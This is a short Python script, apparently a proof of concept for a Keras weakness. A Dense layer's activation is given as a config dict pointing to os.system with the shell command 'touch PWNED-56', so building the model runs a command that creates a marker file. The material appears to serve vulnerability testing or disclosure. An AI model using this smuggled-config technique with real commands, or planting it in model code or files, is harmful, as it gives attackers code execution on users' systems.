import keras
import numpy as np

x = np.array([[1.0], [2.0], [3.0]])
model = keras.Sequential([keras.Input((1,)), keras.layers.Dense(1, activation={"module": "os", "class_name": "system", "config": "touch PWNED-56", "registered_name": None})])
model.compile(loss="mse", optimizer="sgd")
